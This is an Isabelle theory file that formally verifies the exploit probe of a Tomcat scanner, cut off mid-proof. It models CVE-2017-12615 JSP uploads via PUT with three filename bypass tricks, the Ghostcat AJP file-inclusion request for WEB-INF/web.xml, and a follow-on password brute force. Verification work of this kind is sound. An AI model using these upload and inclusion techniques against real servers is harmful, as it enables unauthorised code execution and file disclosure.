(* ===== verification/Exploit.thy ===== *)
theory Exploit
  imports Brute_Force Config Utf8 Ajp_Wire
begin

text \<open>
  The exploit probe of \<open>src/TomcatScan.py\<close>,
  \<open>check_cve_2017_12615_and_cnvd_2020_10487\<close> (lines 467-550): three PUT uploads of
  a JSP (CVE-2017-12615), each verified by a GET, then one AJP file-inclusion request
  (CNVD-2020-10487) through the \<open>tomcatscan\<close> client; and the per-target task
  \<open>detect_and_check\<close> (lines 554-577), which records a successful exploit and then
  runs the brute force. The host of the AJP connection is \<open>urlparse(url).hostname\<close>,
  modelled for URLs without leading blanks or embedded tabs and newlines (the lists are
  stripped when loaded); a bracketed host is not checked for being an IPv6 address.
\<close>

section \<open>urlparse(url).hostname\<close>

definition scheme_chars :: string where
  "scheme_chars = ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+-.''"

definition is_ascii_alpha :: "char \<Rightarrow> bool" where
  "is_ascii_alpha c \<longleftrightarrow> c \<in> set (take 52 scheme_chars)"

text \<open>\<open>urlsplit\<close>: the scheme is the text before the first colon when it starts with a
  letter and consists of scheme characters.\<close>
definition after_scheme :: "string \<Rightarrow> string" where
  "after_scheme url =
     (let i = length (takeWhile (\<lambda>c. c \<noteq> CHR '':'') url) in
      if 0 < i \<and> i < length url \<and> is_ascii_alpha (hd url) \<and> set (take i url) \<subseteq> set scheme_chars
      then drop (Suc i) url else url)"

text \<open>The network location: after \<open>//\<close>, up to the first \<open>/\<close>, \<open>?\<close> or \<open>#\<close>.\<close>
definition url_netloc :: "string \<Rightarrow> string option" where
  "url_netloc url =
     (let r = after_scheme url in
      if take 2 r = ''//'' then Some (takeWhile (\<lambda>c. c \<notin> set ''/?#'') (drop 2 r)) else None)"

definition py_lower_char :: "char \<Rightarrow> char" where
  "py_lower_char c = (if (65::nat) \<le> of_char c \<and> (of_char c :: nat) \<le> 90 then char_of (of_char c + (32::nat)) else c)"

text \<open>\<open>.hostname\<close>: the part of the network location after the last \<open>@\<close>, inside the
  brackets or before the port's colon, in lower case; \<open>None\<close> when empty. A bracket
  without its partner raises \<open>ValueError\<close> (\<open>Invalid IPv6 URL\<close>).\<close>
definition url_hostname :: "string \<Rightarrow> py_error + string option" where
  "url_hostname url =
     (case url_netloc url of
        None \<Rightarrow> Inr None
      | Some netloc \<Rightarrow>
          if (CHR ''['' \<in> set netloc) \<noteq> (CHR '']'' \<in> set netloc) then Inl ValueError
          else
            (let info = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''@'') (rev netloc)) in
             let host =
               (if CHR ''['' \<in> set info
                then takeWhile (\<lambda>c. c \<noteq> CHR '']'') (tl (dropWhile (\<lambda>c. c \<noteq> CHR ''['') info))
                else takeWhile (\<lambda>c. c \<noteq> CHR '':'') info)
             in Inr (if host = [] then None else Some (map py_lower_char host))))"

section \<open>Values of the configuration\<close>

text \<open>\<open>str(n)\<close> of an integer.\<close>
fun nat_dec :: "nat \<Rightarrow> string" where
  "nat_dec n =
     (if n < 10 then [''0123456789'' ! n] else nat_dec (n div 10) @ [''0123456789'' ! (n mod 10)])"

definition int_dec :: "int \<Rightarrow> string" where
  "int_dec i = (if i < 0 then CHR ''-'' # nat_dec (nat (- i)) else nat_dec (nat i))"

text \<open>The port of \<open>socket.connect((host, port))\<close>: an int (a bool is one) in
  0-65535.\<close>
fun socket_port :: "yval \<Rightarrow> py_error + int" where
  "socket_port (YInt i) = (if 0 \<le> i \<and> i \<le> 65535 then Inr i else Inl OverflowError)"
| "socket_port (YBool b) = Inr (if b then 1 else 0)"
| "socket_port YNone = Inl TypeError"
| "socket_port (YStr s) = Inl TypeError"
| "socket_port (YList xs) = Inl TypeError"
| "socket_port (YMap kvs) = Inl TypeError"

text \<open>\<open>f"{target_port}"\<close> of a port that \<open>socket_port\<close> accepted.\<close>
fun port_text :: "yval \<Rightarrow> string" where
  "port_text (YInt i) = int_dec i"
| "port_text (YBool b) = (if b then ''True'' else ''False'')"
| "port_text v = []"

text \<open>A value used where the code needs a str (an AJP string field, the left operand
  of \<open>in\<close> on a str).\<close>
fun yval_str :: "yval \<Rightarrow> py_error + string" where
  "yval_str (YStr s) = Inr s"
| "yval_str YNone = Inl TypeError"
| "yval_str (YBool b) = Inl TypeError"
| "yval_str (YInt i) = Inl TypeError"
| "yval_str (YList xs) = Inl TypeError"
| "yval_str (YMap kvs) = Inl TypeError"

section \<open>CVE-2017-12615\<close>

text \<open>The body \<open>requests.put(..., data=shell_file_content)\<close> sends
  (\<open>PreparedRequest.prepare_body\<close>): a str is sent as it is, a false value (\<open>None\<close>,
  \<open>False\<close>, \<open>0\<close>, an empty str, list or dict) sends no body, and any other value goes
  through the library's \<open>_encode_params\<close> and transport (\<open>encode\<close>): a dict or a
  list of pairs is form-encoded, other lists raise \<open>ValueError\<close> or \<open>TypeError\<close>, and
  a number or \<open>True\<close> is refused with \<open>TypeError\<close> before anything is sent.\<close>
definition put_body :: "(yval \<Rightarrow> py_error + string) \<Rightarrow> yval \<Rightarrow> py_error + string" where
  "put_body encode v =
     (case v of YStr s \<Rightarrow> Inr s | _ \<Rightarrow> if yval_truthy v then encode v else Inr [])"

text \<open>The three upload URLs of lines 495-499, in the order they are tried.\<close>
definition exploit_methods :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "exploit_methods url jsp_file_name =
     [url @ ''/'' @ jsp_file_name @ ''/'', url @ ''/'' @ jsp_file_name @ ''%20'',
      url @ ''/'' @ jsp_file_name @ ''::$DATA'']"

definition put_req :: "string \<Rightarrow> string \<Rightarrow> http_req" where
  "put_req method_url data =
     \<lparr>req_method = PUT, req_url = method_url, req_auth = None, req_cookie = None, req_body = data\<rparr>"

definition plain_get :: "string \<Rightarrow> http_req" where
  "plain_get u = \<lparr>req_method = GET, req_url = u, req_auth = None, req_cookie = None, req_body = []\<rparr>"

text \<open>The loop of lines 501-516: a PUT answered 201 or 204 is verified by a GET of
  the JSP, and a 200 there is a success; otherwise the next technique is tried.\<close>
fun cve_attempts :: "string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> string option eff" where
  "cve_attempts check_url data [] = eret None"
| "cve_attempts check_url data (method_url # ms) =
     ebind (http (put_req method_url data)) (\<lambda>response.
       if status response \<in> {201, 204} then
         ebind (http (plain_get check_url)) (\<lambda>check_response.
           if status check_response = 200 then eret (Some check_url)
           else cve_attempts check_url data ms)
       else cve_attempts check_url data ms)"

section \<open>CNVD-2020-10487\<close>

text \<open>The attributes of lines 531-535.\<close>
definition include_attributes :: "string \<Rightarrow> ajp_attribute list" where
  "include_attributes file_path =
     [Req_attribute ''javax.servlet.include.request_uri'' ''/'',
      Req_attribute ''javax.servlet.include.path_info'' file_path,
      Req_attribute ''javax.servlet.include.servlet_path'' ''/'']"

text \<open>\<open>Tomcat(target_host, target_port).perform_request(req_uri, attributes=...)\<close>:
  the connection needs a host and an int port; the request is
  \<open>prepare_ajp_forward_request\<close> with the attributes appended, and its string fields
  must be str.\<close>
definition perform_request ::
    "string option \<Rightarrow> yval \<Rightarrow> string \<Rightarrow> yval \<Rightarrow> bytes list eff" where
  "perform_request target_hostname target_port req_uri file_path =
     (case target_hostname of
        None \<Rightarrow> eret_r (Inl TypeError)
      | Some h \<Rightarrow>
          ebind (eret_r (socket_port target_port)) (\<lambda>port.
          ebind (eret_r (yval_str file_path)) (\<lambda>fp.
            ajp_exchange \<lparr>ajp_host = h, ajp_port = port,
              ajp_request = (prepare_ajp_forward_request (Some h) req_uri AJP_GET)
                              \<lparr>fr_attributes := include_attributes fp\<rparr>\<rparr>)))"

text \<open>\<open>lfi_check in result_data\<close>: a substring test, \<open>TypeError\<close> for a non-str
  marker.\<close>
definition marker_in :: "yval \<Rightarrow> pystr \<Rightarrow> py_error + bool" where
  "marker_in lfi_check result_data =
     (case yval_str lfi_check of Inl e \<Rightarrow> Inl e | Inr m \<Rightarrow> Inr (is_infix (pystr_of m) result_data))"

definition cnvd_evidence :: "string \<Rightarrow> yval \<Rightarrow> string" where
  "cnvd_evidence target_hostname target_port =
     ''ajp://'' @ target_hostname @ '':'' @ port_text target_port @ ''/WEB-INF/web.xml''"

text \<open>The inner \<open>try\<close> of lines 519-545: every exception is caught and the probe
  reports no evidence.\<close>
definition cnvd_probe :: "string \<Rightarrow> yval \<Rightarrow> string option eff" where
  "cnvd_probe url config =
     ecatch (\<lambda>e. True)
       (ebind (eret_r (url_hostname url)) (\<lambda>target_hostname.
        ebind (eret_r (lookup_path config [''cnvd_2020_10487'', ''port''])) (\<lambda>target_port.
        ebind (eret_r (lookup_path config [''cnvd_2020_10487'', ''file_path''])) (\<lambda>file_path.
        ebind (eret_r (lookup_path config [''cnvd_2020_10487'', ''lfi_check''])) (\<lambda>lfi_check.
        ebind (perform_request target_hostname target_port ''/asdf'' file_path) (\<lambda>data.
          if data = [] then eret None
          else
            ebind (eret_r (decode_chunks data)) (\<lambda>result_data.
            ebind (eret_r (marker_in lfi_check result_data)) (\<lambda>found.
              if found then eret (Some (cnvd_evidence (py_str_opt target_hostname) target_port))
              else eret None))))))))
       (\<lambda>e. eret None)"

section \<open>The probe and the task\<close>

text \<open>Lines 479-549. The body of the PUTs is computed once before the loop: the
  source passes the same payload to each \<open>requests.put\<close>, and an encoding error is
  raised by the first one before it sends anything.\<close>
definition check_cve_2017_12615_and_cnvd_2020_10487 ::
    "string \<Rightarrow> yval \<Rightarrow> (bool \<times> string option \<times> string option) eff" where
  "check_cve_2017_12615_and_cnvd_2020_10487 url0 config =
     ecatch (\<lambda>e. e = RequestException)
       (ebind generate_random_string (\<lambda>r.
        ebind (eret_r (shell_content config)) (\<lambda>shell_file_content.
        ebind (\<lambda>w. eret_r (put_body (body_encode w) shell_file_content) w) (\<lambda>data.
          (let jsp_file_name = r @ ''.jsp''; url = clean_url url0 in
           ebind (cve_attempts (url @ ''/'' @ jsp_file_name) data (exploit_methods url jsp_file_name))
             (\<lambda>res.
                case res of
                  Some check_url \<Rightarrow> eret (True, Some ''CVE-2017-12615'', Some check_url)
                | None \<Rightarrow>
                    ebind (cnvd_probe url config) (\<lambda>ev.
                      case ev of
                        Some evidence \<Rightarrow> eret (True, Some ''CNVD-2020-10487'', Some evidence)
                      | None \<Rightarrow> eret (False, None, None))))))))
       (\<lambda>e. eret (False, None, None))"

definition exploit_line :: "string \<Rightarrow> string option \<Rightarrow> string option \<Rightarrow> string" where
  "exploit_line url vuln_type exploit_url =
     target_host url @ '' - '' @ py_str_opt vuln_type @ '' Exploited: '' @ py_str_opt exploit_url"

text \<open>\<open>detect_and_check\<close> (lines 554-577).\<close>
definition detect_and_check :: "string \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> yval \<Rightarrow> unit eff" where
  "detect_and_check url usernames passwords config =
     ebind (check_cve_2017_12615_and_cnvd_2020_10487 url config) (\<lambda>(success, vuln_type, exploit_url).
     ebind (if success then append_line (exploit_line url vuln_type exploit_url) else eret ()) (\<lambda>_.
     ebind (eret_r (cfg_int config [''retry'', ''check_weak_password'', ''max_retries''])) (\<lambda>max_retries.
     ebind (eret_r (cfg_int config [''retry'', ''check_weak_password'', ''retry_delay''])) (\<lambda>retry_delay.
     ebind (check_weak_password url usernames passwords max_retries retry_delay config) (\<lambda>_.
       eret ())))))"

definition include_call :: "string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> ajp_call" where
  "include_call h p fp =
     \<lparr>ajp_host = h, ajp_port = p,
      ajp_request = (prepare_ajp_forward_request (Some h) ''/asdf'' AJP_GET)\<lparr>fr_attributes := include_attributes fp\<rparr>\<rparr>"

section \<open>Scenario worlds\<close>

text \<open>The bytes of an ASCII text.\<close>
definition ascii_bytes :: "string \<Rightarrow> bytes" where
  "ascii_bytes s = map (\<lambda>c. of_nat (of_char c)) s"

text \<open>Every HTTP request answered 404; the AJP container answers the inclusion with a
  \<open>web.xml\<close> split over two chunks.\<close>
definition w_ajp :: world where
  "w_ajp = \<lparr>net = (\<lambda>n r. Reply \<lparr>status = 404, cookies = [], body = [], file_input = None\<rparr>),
            sent = [], sink = [], sink_ok = True, files = {}, fs_ro = {},
            rnd = (\<lambda>n. ''abc123''), rnd_n = 0, sleeps = [],
            ajp_net = (\<lambda>n c. Ajp_body [ascii_bytes ''<?xml?><web-'', ascii_bytes ''app>'']),
            ajp_sent = [], rm_denied = {},
                body_encode = (\<lambda>v. Inl ValueError)\<rparr>"

text \<open>The first PUT refused, every later one accepted, every GET answered 200.\<close>
definition w_cve :: world where
  "w_cve = w_ajp\<lparr>net := (\<lambda>n r. Reply \<lparr>status = (if req_method r = PUT then (if n = 0 then 405 else 201) else 200),
                                    cookies = [], body = [], file_input = None\<rparr>)\<rparr>"

text \<open>A shell payload given as a YAML list of one string, which \<open>requests\<close> cannot
  form-encode.\<close>
definition cfg_list_shell :: yval where
  "cfg_list_shell = YMap [(''files'', YMap [(''shell_file_content'', YList [YStr ''abc''])])]"

section \<open>Lemmas\<close>

text \<open>Every PUT refused: the three techniques are tried in order, and nothing else is
  sent.\<close>
lemma cve_attempts_refused:
  assumes "\<forall>n m. \<exists>r. net w n (put_req m d) = Reply r \<and> status r \<notin> {201, 204}"
  shows "cve_attempts cu d ms w = (Inr None, w\<lparr>sent := sent w @ map (\<lambda>m. put_req m d) ms\<rparr>)"
  using assms
proof (induction ms arbitrary: w)
  case Nil
  then show ?case by (simp add: eret_def)
next
  case (Cons m ms)
  from Cons.prems obtain r where r: "net w (length (sent w)) (put_req m d) = Reply r" "status r \<notin> {201, 204}"
    by blast
  let ?w1 = "w\<lparr>sent := sent w @ [put_req m d]\<rparr>"
  have "cve_attempts cu d ms ?w1 = (Inr None, ?w1\<lparr>sent := sent ?w1 @ map (\<lambda>m. put_req m d) ms\<rparr>)"
    using Cons.prems by (intro Cons.IH) simp
  with r show ?case by (simp add: ebind_def http_reply del: insert_iff)
qed

lemma cve_attempts_exc:
  "cve_attempts cu d ms w = (Inl e, w') \<Longrightarrow> e = RequestException"
proof (induction ms arbitrary: w)
  case Nil
  then show ?case by (simp add: eret_def)
next
  case (Cons m ms)
  obtain x w1 where h: "http (put_req m d) w = (x, w1)" by fastforce
  show ?case
  proof (cases x)
    case (Inl e')
    with h Cons.prems show ?thesis using http_Inl [of "put_req m d" w e' w1] by (simp add: ebind_def)
  next
    case (Inr r)
    show ?thesis
    proof (cases "status r \<in> {201, 204}")
      case False
      with h Inr Cons.prems Cons.IH [of w1] show ?thesis by (simp add: ebind_def)
    next
      case True
      obtain y w2 where g: "http (plain_get cu) w1 = (y, w2)" by fastforce
      show ?thesis
      proof (cases y)
        case (Inl e')
        with h g Inr True Cons.prems show ?thesis using http_Inl [of "plain_get cu" w1 e' w2]
          by (simp add: ebind_def)
      next
        case (Inr r2)
        with h g \<open>x = Inr r\<close> True Cons.prems Cons.IH [of w2] show ?thesis
          by (cases "status r2 = 200") (simp_all add: ebind_def eret_def)
      qed
    qed
  qed
qed

lemma cnvd_probe_Inr: "\<exists>r w'. cnvd_probe url config w = (Inr r, w')"
  by (simp add: cnvd_probe_def ecatch_def eret_def split: prod.split sum.split)

lemma put_body_exc: "put_body enc v = Inl e \<Longrightarrow> enc v = Inl e"
  by (cases v) (auto simp: put_body_def split: if_splits)


section \<open>Properties of the probe\<close>

text \<open>C9: Only errors of the shell payload leave the probe: every exception
  \<open>check_cve_2017_12615_and_cnvd_2020_10487\<close> raises is a \<open>KeyError\<close>, \<open>TypeError\<close>
  or \<open>AttributeError\<close> of reading it from the configuration, or the error
  \<open>requests\<close> raises encoding it as the PUT body; transport failures and every
  failure of the AJP exchange are handled inside.\<close>

theorem check_cve_exceptions:
  assumes "check_cve_2017_12615_and_cnvd_2020_10487 url config w = (Inl e, w')"
  shows "e \<in> {KeyError, TypeError, AttributeError} \<or>
         (\<exists>v. shell_content config = Inr v \<and> body_encode w v = Inl e \<and> e \<noteq> RequestException)"
proof -
  let ?w1 = "w\<lparr>rnd_n := Suc (rnd_n w)\<rparr>"
  let ?jsp = "rnd w (rnd_n w) @ ''.jsp''"
  let ?url = "clean_url url"
  show ?thesis
  proof (cases "shell_content config")
    case (Inl e')
    with assms show ?thesis using shell_content_exc [OF Inl]
      by (auto simp: check_cve_2017_12615_and_cnvd_2020_10487_def eff_simps split: if_splits)
  next
    case (Inr v)
    show ?thesis
    proof (cases "put_body (body_encode w) v")
      case (Inl e')
      with assms Inr show ?thesis using put_body_exc [OF Inl]
        by (auto simp: check_cve_2017_12615_and_cnvd_2020_10487_def eff_simps split: if_splits)
    next
      case (Inr d)
      obtain x w2 where c: "cve_attempts (?url @ ''/'' @ ?jsp) d (exploit_methods ?url ?jsp) ?w1 = (x, w2)"
        by fastforce
      show ?thesis
      proof (cases x)
        case (Inl e')
        with c have "e' = RequestException" by (simp add: cve_attempts_exc)
        with assms \<open>shell_content config = Inr v\<close> Inr c Inl show ?thesis
          by (simp add: check_cve_2017_12615_and_cnvd_2020_10487_def eff_simps Let_def)
      next
        case (Inr res)
        obtain r w3 where p: "cnvd_probe ?url config w2 = (Inr r, w3)"
          using cnvd_probe_Inr by blast
        with assms \<open>shell_content config = Inr v\<close> \<open>put_body (body_encode w) v = Inr d\<close> c Inr show ?thesis
          by (simp add: check_cve_2017_12615_and_cnvd_2020_10487_def eff_simps Let_def
              split: option.splits)
      qed
    qed
  qed
qed


theorem check_cve_exceptions_witness:
  "check_cve_2017_12615_and_cnvd_2020_10487 ''http://h:1'' cfg_list_shell w_ajp =
     (Inl ValueError, w_ajp\<lparr>rnd_n := 1\<rparr>) \<and>
   (ValueError \<in> {KeyError, TypeError, AttributeError} \<or>
    (\<exists>v. shell_content cfg_list_shell = Inr v \<and> body_encode w_ajp v = Inl ValueError \<and>
         ValueError \<noteq> RequestException))"
proof -
  have c: "check_cve_2017_12615_and_cnvd_2020_10487 ''http://h:1'' cfg_list_shell w_ajp =
             (Inl ValueError, w_ajp\<lparr>rnd_n := 1\<rparr>)"
    by (simp add: check_cve_2017_12615_and_cnvd_2020_10487_def shell_content_def eff_simps w_ajp_def
        cfg_list_shell_def put_body_def)
  show ?thesis using c check_cve_exceptions [OF c] by simp
qed

text \<open>C14: The CNVD-2020-10487 probe reports success exactly as the spec describes when the
  host, port, path and marker are configured and the container's body, decoded chunk by
  chunk, contains the marker: it sends one forward request for \<open>/asdf\<close> with the three
  include attributes carrying the configured path, and the evidence is
  \<open>ajp://host:port/WEB-INF/web.xml\<close> whatever path was configured.\<close>

theorem cnvd_probe_success:
  assumes "url_hostname url = Inr (Some h)"
    and "lookup_path config [''cnvd_2020_10487'', ''port''] = Inr (YInt p)" and "0 \<le> p" "p \<le> 65535"
    and "lookup_path config [''cnvd_2020_10487'', ''file_path''] = Inr (YStr fp)"
    and "lookup_path config [''cnvd_2020_10487'', ''lfi_check''] = Inr (YStr m)"
    and "ajp_net w (length (ajp_sent w)) (include_call h p fp) = Ajp_body data" and "data \<noteq> []"
    and "decode_chunks data = Inr txt" and "is_infix (pystr_of m) txt"
  shows "cnvd_probe url config w =
           (Inr (Some (''ajp://'' @ h @ '':'' @ int_dec p @ ''/WEB-INF/web.xml'')),
            w\<lparr>ajp_sent := ajp_sent w @ [include_call h p fp]\<rparr>)"
  using assms unfolding include_call_def
  by (simp add: cnvd_probe_def perform_request_def marker_in_def cnvd_evidence_def py_str_opt_def eff_simps)

theorem cnvd_probe_success_witness:
  "cnvd_probe ''http://10.0.0.1:8080'' cfg_example w_ajp =
     (Inr (Some ''ajp://10.0.0.1:8009/WEB-INF/web.xml''),
      w_ajp\<lparr>ajp_sent := [include_call ''10.0.0.1'' 8009 ''/WEB-INF/web.xml'']\<rparr>)"
proof -
  have h: "url_hostname ''http://10.0.0.1:8080'' = Inr (Some ''10.0.0.1'')"
    by (simp add: url_hostname_def url_netloc_def after_scheme_def scheme_chars_def is_ascii_alpha_def
        py_lower_char_def)
  have l: "lookup_path cfg_example [''cnvd_2020_10487'', ''port''] = Inr (YInt 8009)"
    "lookup_path cfg_example [''cnvd_2020_10487'', ''file_path''] = Inr (YStr ''/WEB-INF/web.xml'')"
    "lookup_path cfg_example [''cnvd_2020_10487'', ''lfi_check''] = Inr (YStr ''<web-app'')"
    by (simp_all add: cfg_example_def)
  have a: "ajp_net w_ajp (length (ajp_sent w_ajp)) (include_call ''10.0.0.1'' 8009 ''/WEB-INF/web.xml'') =
           Ajp_body [ascii_bytes ''<?xml?><web-'', ascii_bytes ''app>'']"
    by (simp add: w_ajp_def)
  have dc: "decode_chunks [ascii_bytes ''<?xml?><web-'', ascii_bytes ''app>''] =
            Inr (pystr_of ''<?xml?><web-app>'')"
    by (simp add: ascii_bytes_def pystr_of_def utf8_decode.simps(2) cons_r_def)
  have m: "is_infix (pystr_of ''<web-app'') (pystr_of ''<?xml?><web-app>'')"
    by (simp add: is_infix_def pystr_of_def)
  have "int_dec 8009 = ''8009''" by (simp add: int_dec_def)
  with cnvd_probe_success [OF h l(1) _ _ l(2) l(3) a _ dc m] show ?thesis
    by (simp add: w_ajp_def)
qed

text \<open>C10: A CVE-2017-12615 success is only reported after a PUT of one of the three
  techniques was accepted (201 or 204) and the GET of the JSP right after it answered
  200; the reported URL is the JSP's.\<close>

theorem cve_attempts_success:
  assumes "cve_attempts cu d ms w = (Inr (Some u), w')"
  shows "u = cu \<and> (\<exists>pre m r1 r2. m \<in> set ms \<and> sent w' = sent w @ pre @ [put_req m d, plain_get cu] \<and>
           net w (length (sent w) + length pre) (put_req m d) = Reply r1 \<and> status r1 \<in> {201, 204} \<and>
           net w (Suc (length (sent w) + length pre)) (plain_get cu) = Reply r2 \<and> status r2 = 200)"
  using assms
proof (induction ms arbitrary: w)
  case Nil
  then show ?case by (simp add: eret_def)
next
  case (Cons m ms)
  obtain x w1 where h: "http (put_req m d) w = (x, w1)" by fastforce
  have w1: "w1 = w\<lparr>sent := sent w @ [put_req m d]\<rparr>" using h by (rule http_world)
  show ?case
  proof (cases x)
    case (Inl e)
    with h Cons.prems show ?thesis by (simp add: ebind_def)
  next
    case (Inr r)
    have n1: "net w (length (sent w)) (put_req m d) = Reply r" using h Inr by (simp add: http_Inr)
    show ?thesis
    proof (cases "status r \<in> {201, 204}")
      case False
      with h Inr Cons.prems have "cve_attempts cu d ms w1 = (Inr (Some u), w')" by (simp add: ebind_def)
      from Cons.IH [OF this] obtain pre m' r1 r2 where
        ih: "u = cu" "m' \<in> set ms" "sent w' = sent w1 @ pre @ [put_req m' d, plain_get cu]"
          "net w1 (length (sent w1) + length pre) (put_req m' d) = Reply r1" "status r1 \<in> {201, 204}"
          "net w1 (Suc (length (sent w1) + length pre)) (plain_get cu) = Reply r2" "status r2 = 200"
        by blast
      then show ?thesis using w1
        by (intro conjI exI [of _ "put_req m d # pre"] exI [of _ m'] exI [of _ r1] exI [of _ r2]) auto
    next
      case True
      obtain y w2 where g: "http (plain_get cu) w1 = (y, w2)" by fastforce
      have w2: "w2 = w1\<lparr>sent := sent w1 @ [plain_get cu]\<rparr>" using g by (rule http_world)
      show ?thesis
      proof (cases y)
        case (Inl e)
        with h g Inr True Cons.prems show ?thesis by (simp add: ebind_def)
      next
        case (Inr r2)
        have n2: "net w1 (length (sent w1)) (plain_get cu) = Reply r2" using g Inr by (simp add: http_Inr)
        show ?thesis
        proof (cases "status r2 = 200")
          case True2: True
          with h g \<open>x = Inr r\<close> True Inr Cons.prems have "u = cu" "w' = w2"
            by (simp_all add: ebind_def eret_def)
          with n1 n2 w1 w2 True True2 show ?thesis
            by (intro conjI exI [of _ "[]"] exI [of _ m] exI [of _ r] exI [of _ r2]) auto
        next
          case False
          with h g \<open>x = Inr r\<close> True Inr Cons.prems have "cve_attempts cu d ms w2 = (Inr (Some u), w')"
            by (simp add: ebind_def)
          from Cons.IH [OF this] obtain pre m' r1 r3 where
            ih: "u = cu" "m' \<in> set ms" "sent w' = sent w2 @ pre @ [put_req m' d, plain_get cu]"
              "net w2 (length (sent w2) + length pre) (put_req m' d) = Reply r1" "status r1 \<in> {201, 204}"
              "net w2 (Suc (length (sent w2) + length pre)) (plain_get cu) = Reply r3" "status r3 = 200"
            by blast
          then show ?thesis using w1 w2
            by (intro conjI exI [of _ "put_req m d # plain_get cu # pre"] exI [of _ m'] exI [of _ r1] exI [of _ r3])
               auto
        qed
      qed
    qed
  qed
qed

theorem cve_attempts_success_witness:
  "cve_attempts ''http://h:1/abc123.jsp'' [] (exploit_methods ''http://h:1'' ''abc123.jsp'') w_cve =
     (Inr (Some ''http://h:1/abc123.jsp''),
      w_cve\<lparr>sent := [put_req ''http://h:1/abc123.jsp/'' [], put_req ''http://h:1/abc123.jsp%20'' [],
                       plain_get ''http://h:1/abc123.jsp'']\<rparr>) \<and>
   ''http://h:1/abc123.jsp'' = ''http://h:1/abc123.jsp'' \<and>
   (\<exists>pre m r1 r2. m \<in> set (exploit_methods ''http://h:1'' ''abc123.jsp'') \<and>
      sent (w_cve\<lparr>sent := [put_req ''http://h:1/abc123.jsp/'' [], put_req ''http://h:1/abc123.jsp%20'' [],
                       plain_get ''http://h:1/abc123.jsp'']\<rparr>) =
        sent w_cve @ pre @ [put_req m [], plain_get ''http://h:1/abc123.jsp''] \<and>
      net w_cve (length (sent w_cve) + length pre) (put_req m []) = Reply r1 \<and> status r1 \<in> {201, 204} \<and>
      net w_cve (Suc (length (sent w_cve) + length pre)) (plain_get ''http://h:1/abc123.jsp'') = Reply r2 \<and>
      status r2 = 200)"
proof -
  have c: "cve_attempts ''http://h:1/abc123.jsp'' [] (exploit_methods ''http://h:1'' ''abc123.jsp'') w_cve =
     (Inr (Some ''http://h:1/abc123.jsp''),
      w_cve\<lparr>sent := [put_req ''http://h:1/abc123.jsp/'' [], put_req ''http://h:1/abc123.jsp%20'' [],
                       plain_get ''http://h:1/abc123.jsp'']\<rparr>)"
    by (simp add: exploit_methods_def eff_simps w_cve_def w_ajp_def put_req_def plain_get_def)
  show ?thesis using c cve_attempts_success [OF c] by blast
qed

text \<open>C30: A transport failure of the first PUT ends the whole probe with no result: the
  CNVD-2020-10487 check is never attempted (no AJP exchange), although it does not
  depend on the HTTP service.\<close>

theorem check_cve_transport_skips_ajp:
  assumes "shell_content config = Inr v" and "put_body (body_encode w) v = Inr d"
    and "net w (length (sent w))
           (put_req (clean_url url @ ''/'' @ rnd w (rnd_n w) @ ''.jsp/'') d) = Transport_error"
  shows "check_cve_2017_12615_and_cnvd_2020_10487 url config w =
           (Inr (False, None, None),
            w\<lparr>rnd_n := Suc (rnd_n w),
              sent := sent w @ [put_req (clean_url url @ ''/'' @ rnd w (rnd_n w) @ ''.jsp/'') d]\<rparr>)"
  using assms
  by (simp add: check_cve_2017_12615_and_cnvd_2020_10487_def eff_simps Let_def exploit_methods_def)


theorem check_cve_transport_skips_ajp_witness:
  "check_cve_2017_12615_and_cnvd_2020_10487 ''http://h:1'' cfg_example (w_gen {}) =
     (Inr (False, None, None),
      (w_gen {})\<lparr>rnd_n := 1, sent := [put_req ''http://h:1/abc123.jsp/'' ''<%-- shell --%>'']\<rparr>)"
proof -
  have s: "shell_content cfg_example = Inr (YStr ''<%-- shell --%>'')"
    by (simp add: shell_content_def cfg_example_def)
  have b: "put_body (body_encode (w_gen {})) (YStr ''<%-- shell --%>'') = Inr ''<%-- shell --%>''"
    by (simp add: put_body_def)
  have n: "net (w_gen {}) (length (sent (w_gen {})))
             (put_req (clean_url ''http://h:1'' @ ''/'' @ rnd (w_gen {}) (rnd_n (w_gen {})) @ ''.jsp/'')
               ''<%-- shell --%>'') = Transport_error"
    by (simp add: w_gen_def)
  have u: "clean_url ''http://h:1'' = ''http://h:1''"
    by (simp add: clean_url_def rstrip_def manager_path_def)
  from check_cve_transport_skips_ajp [OF s b n] show ?thesis by (simp add: u w_gen_def)
qed

text \<open>C8: The spec's LFI path: when every PUT is refused, the probe falls back to
  CNVD-2020-10487; with the host, port, path and marker configured and the container's
  decoded body containing the marker, it reports
  \<open>(True, "CNVD-2020-10487", "ajp://host:port/WEB-INF/web.xml")\<close> after the three PUTs
  and exactly one AJP forward request carrying the configured path.\<close>

theorem check_cve_cnvd_fallback:
  assumes "shell_content config = Inr v" and "put_body (body_encode w) v = Inr d"
    and "\<forall>n m. \<exists>r. net w n (put_req m d) = Reply r \<and> status r \<notin> {201, 204}"
    and "url_hostname (clean_url url) = Inr (Some h)"
    and "lookup_path config [''cnvd_2020_10487'', ''port''] = Inr (YInt p)" and "0 \<le> p" "p \<le> 65535"
    and "lookup_path config [''cnvd_2020_10487'', ''file_path''] = Inr (YStr fp)"
    and "lookup_path config [''cnvd_2020_10487'', ''lfi_check''] = Inr (YStr m)"
    and "ajp_net w (length (ajp_sent w)) (include_call h p fp) = Ajp_body data" and "data \<noteq> []"
    and "decode_chunks data = Inr txt" and "is_infix (pystr_of m) txt"
  shows "check_cve_2017_12615_and_cnvd_2020_10487 url config w =
           (Inr (True, Some ''CNVD-2020-10487'', Some (''ajp://'' @ h @ '':'' @ int_dec p @ ''/WEB-INF/web.xml'')),
            w\<lparr>rnd_n := Suc (rnd_n w),
              sent := sent w @ map (\<lambda>m. put_req m d) (exploit_methods (clean_url url) (rnd w (rnd_n w) @ ''.jsp'')),
              ajp_sent := ajp_sent w @ [include_call h p fp]\<rparr>)"
proof -
  let ?w1 = "w\<lparr>rnd_n := Suc (rnd_n w)\<rparr>"
  let ?ms = "exploit_methods (clean_url url) (rnd w (rnd_n w) @ ''.jsp'')"
  have c: "cve_attempts (clean_url url @ ''/'' @ rnd w (rnd_n w) @ ''.jsp'') d ?ms ?w1 =
             (Inr None, ?w1\<lparr>sent := sent ?w1 @ map (\<lambda>m. put_req m d) ?ms\<rparr>)"
    using assms(3) by (intro cve_attempts_refused) simp
